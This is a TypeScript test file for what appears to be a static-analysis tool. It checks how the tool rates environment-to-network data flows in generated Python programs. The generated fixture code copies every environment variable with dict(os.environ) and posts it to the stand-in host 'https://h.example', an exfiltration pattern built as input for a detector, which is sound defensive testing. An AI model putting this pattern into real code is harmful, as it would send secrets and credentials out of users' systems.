import { describe, expect, it } from 'vitest';
import { compileRules } from '../../../src/rules/compile.ts';
import { loadRules } from '../../../src/rules/load.ts';
import { prepareRules } from '../../../src/rules/rule-set.ts';
import { gatherFacts } from '../../../src/static/facts/gather.ts';
import { finish } from '../../../src/static/frontends/steps.ts';
import { flowsOf } from '../../../src/static/flow/flows.ts';

const rules = prepareRules(compileRules([loadRules('rules', 'built-in')]));

async function isFarIn(text: string): Promise<readonly boolean[]> {
  const [facts] = await finish(gatherFacts([{ path: 'a.py', text, language: 'python' }], rules));
  if (facts === undefined) throw new Error('no facts');
  return flowsOf(facts.graph)
    .filter(({ from, to }) => from === 'environment' && to === 'network')
    .map(({ isFar }) => isFar);
}

/** A value that goes through so many functions, and is put into so many other places. */
function program(functions: number, places: number): string {
  const steps = Array.from(
    { length: functions },
    (_, nth) => `def f${nth}(v):\n  return f${nth + 1}(str(v) + "-")\n`,
  );
  const copies = Array.from(
    { length: places },
    (_, nth) => `def g${nth}(v):\n  return v\nc${nth} = g${nth}(values)\n`,
  );
  return (
    `import os, requests\n${steps.join('')}def f${functions}(v):\n  requests.post("https://h.example", data=v)\n` +
    `values = dict(os.environ)\n${copies.join('')}f0(values)\n`
  );
}

describe('how far a value comes', () => {
  it('is not far where it comes straight, however much else it is put into', async () => {
    expect(await isFarIn(program(0, 200))).toEqual([false]);
  });

  it('is not far through many functions of a small program', async () => {
    expect(await isFarIn(program(12, 0))).toEqual([false]);
  });

  it('is far through many functions where it is put into very many places', async () => {
    expect(await isFarIn(program(12, 200))).toEqual([true]);
  });
});
